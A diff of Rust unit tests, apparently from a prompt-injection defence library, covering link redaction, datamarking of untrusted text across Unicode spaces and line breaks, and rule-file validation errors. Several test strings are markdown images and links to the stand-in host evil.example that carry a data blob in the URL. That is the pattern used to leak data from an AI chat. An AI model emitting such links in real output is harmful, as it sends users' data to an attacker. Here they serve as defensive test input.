@@ -297,6 +297,7 @@ fn a_redacted_link_leaves_nothing_of_its_destination_behind() {
         format!("![x](https://evil.example/p.png?d={blob})"),
         format!("[x](https://evil.example/a(b)?d={blob} \"a title\")"),
         format!("![x](<https://evil.example/a b?d={blob}> 'title')"),
+        format!("![x](https://evil.example/p.png?d={blob} (a title))"),
         format!("[x]( https://evil.example/?d={blob} )"),
     ] {
         let text = format!("before {link} after");
@@ -1651,6 +1652,19 @@ mod spotlighting {
             marked.text,
             format!("{m}In{m}this{m}manner\n{m}the{m}input")
         );
+        // Every Unicode space is a gap; every line break starts a line (CR
+        // LF once).
+        let marked = Spotlight::Datamark.apply_with(
+            "a\u{a0}b\u{2002}\u{3000}c\r\nd\re\u{b}f\u{c}g\u{85}h\u{2028}i\u{2029}j",
+            &mut rng,
+        );
+        let m = &marked.marker;
+        assert_eq!(
+            marked.text,
+            format!(
+                "{m}a{m}b{m}c\r\n{m}d\r{m}e\u{b}{m}f\u{c}{m}g\u{85}{m}h\u{2028}{m}i\u{2029}{m}j"
+            )
+        );
     }
 
     #[test]
@@ -1808,6 +1822,23 @@ fn rule_file_errors_name_the_rule_or_signal_and_pattern() {
     );
     let err = RuleSet::parse(&signal).expect_err("a bad signal pattern");
     assert!(err.0.contains("signal \"s\", pattern 0"), "{}", err.0);
+    // A pattern that matches empty text would hit every string.
+    for empty in ["x?", "\\b", "\\bx*"] {
+        let err = RuleSet::parse(&rule(empty)).expect_err(empty);
+        assert!(
+            err.0.contains("pattern 1 can match empty text"),
+            "{}",
+            err.0
+        );
+    }
+    // Thresholds that cannot be meant.
+    for (score, says) in [
+        ("reject = 3\nflag = 9", "flag = 9 is above reject = 3"),
+        ("span = 0", "span = 0 is not allowed"),
+    ] {
+        let err = RuleSet::parse(&format!("{}[score]\n{score}\n", rule("fine"))).expect_err(score);
+        assert!(err.0.contains(says), "{}", err.0);
+    }
     // A good file compiles whole, and `prepare` is then a no-op.
     let rules = RuleSet::parse(&rule("fine")).expect("compiles");
     rules.prepare();
